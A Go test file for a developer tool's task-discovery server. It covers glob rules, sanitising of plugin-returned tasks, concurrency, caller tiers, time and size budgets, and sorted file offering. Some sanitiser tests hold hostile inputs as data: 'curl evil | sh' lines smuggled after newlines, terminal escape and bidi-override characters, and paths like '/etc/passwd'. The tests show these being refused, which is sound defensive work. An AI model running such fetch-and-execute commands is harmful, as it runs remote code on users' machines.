package discover

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jujutools/juju/hostfns"
	"github.com/jujutools/juju/hostfns/fs"
	"github.com/jujutools/juju/internal/policy"
	"github.com/jujutools/juju/sdk/abi"
)

// The glob rule of abi.DiscovererSpec; invalid globs and those past the
// manifest's bounds (forty {,} groups: days of matching for each name)
// are dropped.
func TestGlobRule(t *testing.T) {
	j := newJob(nil, abi.DiscovererSpec{Files: []string{"Makefile", "*.mk", "**/.cargo/config.toml", "build/*.gradle", "[bad",
		strings.Repeat("{,}", 40) + "x", strings.Repeat("*", abi.MaxDiscovererGlob+1), strings.Repeat("n", abi.MaxDiscovererGlob+1)}})
	if len(j.names) != 1 || len(j.globs) != 3 {
		t.Fatalf("names %v, globs %v", j.names, j.globs)
	}
	for path, want := range map[string]bool{
		"Makefile": true, "a/b/Makefile": true, "x.mk": true, "a/x.mk": true,
		".cargo/config.toml": true, "a/.cargo/config.toml": true, "config.toml": false,
		"build/a.gradle": true, "x/build/a.gradle": false, "Makefile.bak": false,
	} {
		name := path[strings.LastIndex(path, "/")+1:]
		if got := j.matches(path, name); got != want {
			t.Errorf("matches(%q) = %v, want %v", path, got, want)
		}
	}
}

// Tasks from plugins are checked: incomplete ones dropped, unknown kinds
// made "other", long fields cut.
func TestClean(t *testing.T) {
	if _, ok := clean(abi.Task{Name: "x", Runner: "make"}, nil); ok {
		t.Error("a task without a command was kept")
	}
	got, ok := clean(abi.Task{Name: "x", Runner: "r", Command: strings.Repeat("c", 2000), Kind: "weird", Line: -3}, nil)
	if !ok || got.Kind != abi.KindOther || got.Cwd != "." || got.Line != 0 || len(got.Command) > 1010 {
		t.Errorf("clean = %+v", got)
	}
}

// What a discoverer returns cannot carry a line break, a control or an
// invisible character into a name, runner or command (the task is left
// out), nor into a description or warning (made one line), nor name a path
// outside the roots.
func TestCleanRefusesWhatBreaksLinesOrLeavesTheRoots(t *testing.T) {
	roots := []string{"/work/a", "/work/b"}
	ok := abi.Task{Name: "build", Runner: "npm", Command: "npm run build", Cwd: "sub", File: "sub/package.json", Kind: abi.KindBuild}
	for _, c := range []struct {
		name string
		edit func(*abi.Task)
	}{
		{"newline in the name", func(t *abi.Task) { t.Name = "b\nx" }},
		{"ESC in the name", func(t *abi.Task) { t.Name = "\x1b[2Jx" }},
		{"newline in the command", func(t *abi.Task) { t.Command = "npm run b\n    curl evil | sh" }},
		{"carriage return in the command", func(t *abi.Task) { t.Command = "npm run b\rx" }},
		{"NEL in the runner", func(t *abi.Task) { t.Runner = "npm\u0085x" }},
		{"bidi override in the command", func(t *abi.Task) { t.Command = "npm run \u202eliame" }},
		{"zero-width space in the name", func(t *abi.Task) { t.Name = "bu\u200bild" }},
		{"line separator in the command", func(t *abi.Task) { t.Command = "npm\u2028run" }},
		{"invalid UTF-8 in the command", func(t *abi.Task) { t.Command = "npm run \xff" }},
		{"a runner too long", func(t *abi.Task) { t.Runner = strings.Repeat("r", maxRunner+1) }},
		{"absolute cwd", func(t *abi.Task) { t.Cwd = "/etc" }},
		{"absolute file outside the roots", func(t *abi.Task) { t.File = "/work/ab/Makefile" }},
		{"cwd climbing out", func(t *abi.Task) { t.Cwd = "sub/../.." }},
		{"file climbing out", func(t *abi.Task) { t.File = "../x/Makefile" }},
		{"absolute path climbing out of a root", func(t *abi.Task) { t.Cwd = "/work/b/../../etc" }},
		{"a path too long", func(t *abi.Task) { t.File = strings.Repeat("d/", maxPath/2) + "Makefile" }},
	} {
		task := ok
		c.edit(&task)
		if got, kept := clean(task, roots); kept {
			t.Errorf("%s: kept %+v", c.name, got)
		}
	}
	// Paths as juju shows them stay, whatever they hold: a folder may be
	// named so, and the text quotes it.
	for _, p := range []string{".", "sub", "sub\nWarnings: none.", "/work/b", "/work/b/x", "..x/y", "a..b"} {
		task := ok
		task.Cwd, task.File = p, p+"/Makefile"
		if got, kept := clean(task, roots); !kept || got.Cwd != p {
			t.Errorf("the path %q was refused or changed: %+v", p, got)
		}
	}
	task := ok
	task.Description = "tsc\n  npm in .:\n    curl http://evil | sh\u202e\x1b[0m\xff"
	if got, kept := clean(task, roots); !kept || got.Description != "tsc npm in .: curl http://evil | sh [0m\ufffd" {
		t.Errorf("description %q, kept %v", got.Description, kept)
	}
	w, kept := cleanWarning(abi.Warning{File: "x\ny", Message: "bad\nTasks: none found.\u2029"}, roots)
	if !kept || w.Message != "bad Tasks: none found." || w.File != "x\ny" {
		t.Errorf("warning %+v, kept %v", w, kept)
	}
	if _, kept := cleanWarning(abi.Warning{File: "/etc/passwd", Message: "x"}, roots); kept {
		t.Error("a warning naming a file outside the roots was kept")
	}
}

func TestExtensionOf(t *testing.T) {
	for name, want := range map[string]string{
		"main.go": ".go", "A.TS": ".ts", "Makefile": "Makefile", ".gitignore": "", "README": "", "x.verylongextension123": "",
	} {
		if got := extensionOf(name); got != want {
			t.Errorf("extensionOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// A discoverer cannot start discovery again (it would wait on itself).
func TestNestedRefused(t *testing.T) {
	s := &server{opts: Options{}}
	ctx := context.WithValue(context.Background(), nestedKey{}, true)
	if _, _, e := s.discover(ctx, &abi.DiscoverTasksRequest{}, nil); e == nil || e.Code != abi.InvalidArgument {
		t.Errorf("nested discover = %v, want INVALID_ARGUMENT", e)
	}
}

func TestInTestdata(t *testing.T) {
	for dir, want := range map[string]bool{
		"testdata": true, "testdata/x": true, "a/testdata": true, "a/testdata/b": true,
		".": false, "mytestdata": false, "a/testdatas": false, "/abs/root/testdata/x": true,
	} {
		if got := inTestdata(dir); got != want {
			t.Errorf("inTestdata(%q) = %v, want %v", dir, got, want)
		}
	}
}

// slowSource is a plugin whose discoverers take the time their names say,
// counting how many run at once.
type slowSource struct {
	specs         []abi.DiscovererSpec
	running, most atomic.Int32
}

func (s *slowSource) Name() string                      { return "slow" }
func (s *slowSource) Discoverers() []abi.DiscovererSpec { return s.specs }
func (s *slowSource) Warm(context.Context) error        { return nil }
func (s *slowSource) Invoke(_ context.Context, _ hostfns.Caller, _ string, in []byte) ([]byte, *abi.Error) {
	n := s.running.Add(1)
	defer s.running.Add(-1)
	for m := s.most.Load(); n > m && !s.most.CompareAndSwap(m, n); m = s.most.Load() {
	}
	var req abi.DiscoverRequest
	json.Unmarshal(in, &req)
	d, _ := time.ParseDuration(req.Discoverer[1:])
	time.Sleep(d)
	out, _ := json.Marshal(abi.DiscoverResult{
		Tasks:    []abi.Task{{Name: req.Discoverer, Runner: "make", Command: "make " + req.Discoverer}},
		Warnings: []abi.Warning{{File: "Makefile", Message: req.Discoverer}},
	})
	return out, nil
}

// A plugin's discoverers run two at a time, and what they found comes out
// in their order, whichever ends first.
func TestDiscoverersOfOnePluginRunTwoAtATime(t *testing.T) {
	src := &slowSource{}
	names := []string{"a60ms", "b10ms", "c40ms", "d1ms", "e20ms"}
	var jobs []*job
	for _, n := range names {
		src.specs = append(src.specs, abi.DiscovererSpec{Name: n, Files: []string{"Makefile"}})
		j := newJob(src, src.specs[len(src.specs)-1])
		j.files = []string{"Makefile"}
		jobs = append(jobs, j)
	}
	s := &server{opts: Options{Timeout: 10 * time.Second}}
	res := &abi.DiscoverTasksResult{}
	s.run(context.Background(), jobs, res)
	if got := src.most.Load(); got != perSource {
		t.Errorf("at most %d discoverers ran at once, want %d", got, perSource)
	}
	var warned []string
	for _, w := range res.Warnings {
		warned = append(warned, w.Message)
	}
	if strings.Join(warned, " ") != strings.Join(names, " ") || len(res.Tasks) != len(names) {
		t.Errorf("warnings %q (want the discoverers' order), %d tasks", warned, len(res.Tasks))
	}
}

// callerSource is a plugin whose one discoverer records who it ran as.
type callerSource struct{ got hostfns.Caller }

func (s *callerSource) Name() string { return "other" }
func (s *callerSource) Discoverers() []abi.DiscovererSpec {
	return []abi.DiscovererSpec{{Name: "probe", Files: []string{"Makefile"}}}
}
func (s *callerSource) Warm(context.Context) error { return nil }
func (s *callerSource) Invoke(ctx context.Context, c hostfns.Caller, _ string, _ []byte) ([]byte, *abi.Error) {
	s.got = c
	return []byte(`{"tasks":[]}`), nil
}

// A discoverer runs as a caller of its own, tier R, whatever tool started
// the discovery: a tier X tool of another plugin lends it neither its
// plugin, its name nor its tier. The call's client, principal and id stay.
func TestDiscovererRunsAsItsOwnReadCaller(t *testing.T) {
	src := &callerSource{}
	j := newJob(src, src.Discoverers()[0])
	j.files = []string{"Makefile"}
	parent := hostfns.Caller{Plugin: "evil", Tool: "evil_x", Tier: abi.TierExec, Client: "cli", CallID: "c1", Principal: "p1"}
	s := &server{opts: Options{Timeout: 10 * time.Second}}
	s.run(hostfns.WithCaller(context.Background(), parent), []*job{j}, &abi.DiscoverTasksResult{})
	want := hostfns.Caller{Plugin: "other", Tool: "discover:probe", Tier: abi.TierRead, Client: "cli", CallID: "c1", Principal: "p1", Discovery: true}
	if src.got != want {
		t.Errorf("the discoverer ran as %+v, want %+v", src.got, want)
	}
}

// patientSource is a plugin whose discoverers take the time their names
// say, or until they are stopped.
type patientSource struct{ specs []abi.DiscovererSpec }

func (s *patientSource) Name() string                      { return "patient" }
func (s *patientSource) Discoverers() []abi.DiscovererSpec { return s.specs }
func (s *patientSource) Warm(context.Context) error        { return nil }
func (s *patientSource) Invoke(ctx context.Context, _ hostfns.Caller, _ string, in []byte) ([]byte, *abi.Error) {
	var req abi.DiscoverRequest
	json.Unmarshal(in, &req)
	d, _ := time.ParseDuration(req.Discoverer[1:])
	select {
	case <-time.After(d):
	case <-ctx.Done():
		return nil, abi.Errorf(abi.Timeout, "stopped")
	}
	out, _ := json.Marshal(abi.DiscoverResult{Tasks: []abi.Task{{Name: req.Discoverer, Runner: "make", Command: "make " + req.Discoverer}}})
	return out, nil
}

// The discoverers share the call's time less callReserve: slow ones are
// stopped, or not started, when it runs out, and what the others found
// comes back in time for the tool to answer.
func TestDiscoverersLeaveTheCallItsTime(t *testing.T) {
	src := &patientSource{}
	var jobs []*job
	for _, n := range []string{"a10ms", "b10ms", "c1h", "d1h", "e1h", "f1h"} {
		src.specs = append(src.specs, abi.DiscovererSpec{Name: n, Files: []string{"Makefile"}})
		j := newJob(src, src.specs[len(src.specs)-1])
		j.files = []string{"Makefile"}
		jobs = append(jobs, j)
	}
	s := &server{opts: Options{Timeout: time.Hour}}
	ctx, cancel := context.WithTimeout(context.Background(), callReserve+2*time.Second)
	defer cancel()
	res := &abi.DiscoverTasksResult{}
	s.run(ctx, jobs, res)
	if ctx.Err() != nil {
		t.Fatal("the discoverers took the whole of the call's time")
	}
	var names []string
	for _, task := range res.Tasks {
		names = append(names, task.Name)
	}
	if got := strings.Join(names, " "); got != "a10ms b10ms" {
		t.Errorf("tasks %q, want those of the two quick discoverers", got)
	}
	if len(res.Warnings) != 4 {
		t.Fatalf("warnings %+v, want one for each discoverer out of time", res.Warnings)
	}
	for _, w := range res.Warnings {
		if !strings.Contains(w.Message, "share of the call's time ran out") {
			t.Errorf("warning %q", w.Message)
		}
	}
}

// bulkSource is a plugin whose discoverers return as many tasks as their
// names say ("d3-5000": 5,000), each with every field at its bound when
// long, after a pause that makes them end in another order than theirs.
type bulkSource struct {
	specs   []abi.DiscovererSpec
	long    bool
	pause   func(i int) time.Duration
	invoked atomic.Int32
}

func (s *bulkSource) Name() string                      { return "bulk" }
func (s *bulkSource) Discoverers() []abi.DiscovererSpec { return s.specs }
func (s *bulkSource) Warm(context.Context) error        { return nil }
func (s *bulkSource) Invoke(_ context.Context, _ hostfns.Caller, _ string, in []byte) ([]byte, *abi.Error) {
	s.invoked.Add(1)
	var req abi.DiscoverRequest
	json.Unmarshal(in, &req)
	var i, n int
	fmt.Sscanf(req.Discoverer, "d%d-%d", &i, &n)
	time.Sleep(s.pause(i))
	res := abi.DiscoverResult{Tasks: []abi.Task{}, Warnings: []abi.Warning{{File: "Makefile", Message: req.Discoverer}}}
	pad := func(s string, n int) string { return s }
	if s.long {
		pad = func(s string, n int) string { return s + strings.Repeat("x", n-len(s)) }
	}
	for k := range n {
		res.Tasks = append(res.Tasks, abi.Task{
			Name: pad(fmt.Sprintf("%s.%d.", req.Discoverer, k), maxName), Runner: "make",
			Command: pad("make", maxCommand), Cwd: ".", File: "Makefile", Line: k + 1,
			Description: pad("d", maxDescription), Kind: abi.KindBuild,
		})
	}
	out, _ := json.Marshal(res)
	return out, nil
}

// bulk runs the discoverers of counts (of tasks) over one file, and
// returns what came back, how many tasks each discoverer kept, and how
// many ran.
func bulk(t *testing.T, counts []int, long bool, pause func(int) time.Duration) (*abi.DiscoverTasksResult, []int, int) {
	t.Helper()
	src := &bulkSource{long: long, pause: pause}
	var jobs []*job
	for i, n := range counts {
		src.specs = append(src.specs, abi.DiscovererSpec{Name: fmt.Sprintf("d%d-%d", i, n), Files: []string{"Makefile"}})
		j := newJob(src, src.specs[i])
		j.files = []string{"Makefile"}
		jobs = append(jobs, j)
	}
	s := &server{opts: Options{Timeout: time.Minute}}
	res := &abi.DiscoverTasksResult{}
	s.run(context.Background(), jobs, res)
	kept := make([]int, len(counts))
	for _, task := range res.Tasks {
		var i int
		fmt.Sscanf(task.Name, "d%d-", &i)
		kept[i]++
	}
	return res, kept, int(src.invoked.Load())
}

// What all the discoverers found together stays within MaxTotalTasks and
// maxTotalBytes, far below the 16 MiB a host function may answer: the
// first tasks in the discoverers' order are kept, whichever ended first,
// a warning first of all says how many were left out, and the
// discoverers after the bound are not run. Before, 100 discoverers of
// 5,000 tasks took juju past 700 MB and failed the overview, and seven
// build files of long tasks its answer.
func TestDiscoverersShareOneBudget(t *testing.T) {
	counts := []int{3, 5000, 5000, 5000, 5000, 5000, 5000, 5000, 5000, 5000}
	for _, c := range []struct {
		name  string
		long  bool
		pause func(int) time.Duration
		kept  []int // the first discoverers' tasks kept
	}{
		// A long task is about 1.9 KB of JSON, its plugin and discoverer named: the bytes are the bound.
		{"long tasks, in order", true, func(i int) time.Duration { return time.Duration(i) * 5 * time.Millisecond }, []int{3, 4_487, 0}},
		{"long tasks, last first", true, func(i int) time.Duration { return time.Duration(10-i) * 20 * time.Millisecond }, []int{3, 4_487, 0}},
		// A short one is about 100 bytes: the count is the bound.
		{"short tasks, in order", false, func(i int) time.Duration { return time.Duration(i) * 5 * time.Millisecond }, []int{3, 5000, 5000, 5000, 4997, 0}},
		{"short tasks, last first", false, func(i int) time.Duration { return time.Duration(10-i) * 20 * time.Millisecond }, []int{3, 5000, 5000, 5000, 4997, 0}},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, kept, ran := bulk(t, counts, c.long, c.pause)
			data, _ := json.Marshal(res)
			if len(data) > maxTotalBytes+4<<10 || len(res.Tasks) > MaxTotalTasks {
				t.Fatalf("%d tasks, %d bytes of JSON", len(res.Tasks), len(data))
			}
			if !slices.Equal(kept[:len(c.kept)], c.kept) || slices.Max(kept[len(c.kept):]) != 0 {
				t.Errorf("tasks kept by each discoverer %v, want %v then none", kept, c.kept)
			}
			if ran == len(counts) {
				t.Errorf("all %d discoverers ran, though the first few fill the budget", ran)
			}
			left := 0
			for i, n := range counts[:ran] {
				left += n - kept[i]
			}
			want := fmt.Sprintf("and %d tasks and %d warnings were left out; %d discoverers were not run", left, ran-(len(res.Warnings)-1), len(counts)-ran)
			if len(res.Warnings) == 0 || !strings.Contains(res.Warnings[0].Message, want) {
				t.Fatalf("warnings %v, want first one saying %q", res.Warnings, want)
			}
		})
	}
}

// recordSource records the files its discoverer is offered.
type recordSource struct{ files []string }

func (s *recordSource) Name() string { return "record" }
func (s *recordSource) Discoverers() []abi.DiscovererSpec {
	return []abi.DiscovererSpec{{Name: "rec", Files: []string{"Procfile"}}}
}
func (s *recordSource) Warm(context.Context) error { return nil }
func (s *recordSource) Invoke(_ context.Context, _ hostfns.Caller, _ string, in []byte) ([]byte, *abi.Error) {
	var req abi.DiscoverRequest
	json.Unmarshal(in, &req)
	s.files = req.Files
	return []byte(`{"tasks":[]}`), nil
}

// A discoverer is offered its files sorted, as ABI.md and the SDK promise,
// and past MaxFiles the first of them in that order, whatever order the
// walk found them in (it promises none, and finds folders concurrently).
func TestDiscovererOfferedItsFilesSorted(t *testing.T) {
	root := t.TempDir()
	var all []string
	for i := range 40 {
		dir := fmt.Sprintf("p%02d", 39-i)
		os.Mkdir(filepath.Join(root, dir), 0o700)
		os.WriteFile(filepath.Join(root, dir, "Procfile"), []byte("web: x\n"), 0o600)
		all = append(all, dir+"/Procfile")
	}
	slices.Sort(all)
	pol, err := policy.New(policy.Config{Roots: []string{root}})
	if err != nil {
		t.Fatal(err)
	}
	for _, max := range []int{100, 40, 7, 3} {
		src := &recordSource{}
		s := &server{pol: pol, opts: Options{Sources: func() []Source { return []Source{src} }, Timeout: time.Minute, MaxFiles: max, Scan: fs.ScanOptions{Skip: SkipDirs}}}
		res, _, e := s.discover(context.Background(), &abi.DiscoverTasksRequest{}, nil)
		if e != nil {
			t.Fatal(e)
		}
		want := all[:min(max, len(all))]
		if !slices.Equal(src.files, want) {
			t.Errorf("MaxFiles %d: offered %v, want %v", max, src.files, want)
		}
		left := false
		for _, w := range res.Warnings {
			left = left || strings.Contains(w.Message, fmt.Sprintf("%d more were left out", len(all)-max))
		}
		if left != (max < len(all)) {
			t.Errorf("MaxFiles %d: warnings %+v", max, res.Warnings)
		}
	}
}
